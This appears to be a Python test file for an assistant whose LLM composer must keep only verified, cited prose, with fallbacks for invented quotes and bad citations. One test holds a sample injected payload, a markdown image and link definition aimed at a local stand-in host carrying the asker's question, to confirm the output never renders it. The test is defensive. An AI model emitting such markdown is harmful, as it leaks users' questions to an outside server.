"""The optional LLM composer keeps only verified prose, using langchain-core's fake chat models."""

import re

import pytest
from langchain_core.language_models.fake_chat_models import FakeListChatModel

from assistant import Assistant

Q = "should I give him my passwords so he stops worrying?"


def _with_llm(fake_index, response):
    return Assistant.load(fake_index, llm=FakeListChatModel(responses=[response]))


@pytest.fixture(scope="module")
def plain(fake_index):
    return Assistant.load(fake_index).ask(Q)


def test_verified_prose_is_used_and_renumbered(fake_index, plain):
    assert len(plain.quotes) >= 2
    last = len(plain.quotes)
    words = " ".join(plain.quotes[last - 1].text.split()[:4])
    prose = f"The articles warn against simply giving in [{last}]. As one puts it, \"{words}\" [{last}]."
    ans = _with_llm(fake_index, prose).ask(Q)
    assert ans.composer == "llm"
    assert ans.markdown.index("giving in [1]") < ans.markdown.index("**Sources**")
    # the quote cited first by the prose is now [1]
    assert ans.quotes[0].text == plain.quotes[last - 1].text
    cited = [int(n) for n in re.findall(r"\[(\d+)\]", ans.markdown.split("**Sources**")[0])]
    firsts = list(dict.fromkeys(cited))
    assert firsts == list(range(1, len(ans.quotes) + 1))


def test_invented_quote_falls_back(fake_index, plain):
    ans = _with_llm(fake_index, 'He said "you must always share every password" [1].').ask(Q)
    assert ans.composer == "extractive-fallback"
    assert any("failed verification" in n for n in ans.notices)
    assert ans.markdown == plain.markdown and ans.quotes == plain.quotes


def test_out_of_range_citation_falls_back(fake_index, plain):
    ans = _with_llm(fake_index, "Set boundaries together [9].").ask(Q)
    assert ans.composer == "extractive-fallback"
    assert any("[9]" in n for n in ans.notices)


def test_uncited_sentence_falls_back(fake_index):
    ans = _with_llm(fake_index, "Give him time [1]. Everything will be fine.").ask(Q)
    assert ans.composer == "extractive-fallback"


def test_written_prose_cannot_turn_citations_into_links_or_load_an_image(fake_index):
    """A model (or an article steering it) ending its prose with a link definition for "[1]"
    and an image of it: the answer shows both as text, and no citation links anywhere."""
    from markdown_it import MarkdownIt

    prose = ("Be patient and rebuild trust every day ![1].\n\n"
             "[1]: http://127.0.0.1:7950/p.png?q=asker-question")
    ans = _with_llm(fake_index, prose).ask(Q)
    html = MarkdownIt("commonmark").render(ans.markdown)
    assert "<img" not in html and "<a " not in html
    assert "asker-question" in html  # shown as the text it is


def test_prose_of_many_blank_lines_is_escaped_in_linear_time():
    """Escaping the start of each line of a model's prose read on from every blank line over
    all the lines after it: 4,000 newlines took 0.2 s, the square of their number (twenty-fifth
    audit). What is escaped is unchanged."""
    from assistant.composer import md_escape
    from tests.timing import assert_linear

    assert_linear(lambda t: md_escape(t, one_line=False), "\n", 8_000, suffix="x")
    assert md_escape("a\n\n  # b\n12. c\n\n> d", one_line=False) == "a\n\n  \\# b\n12\\. c\n\n\\> d"
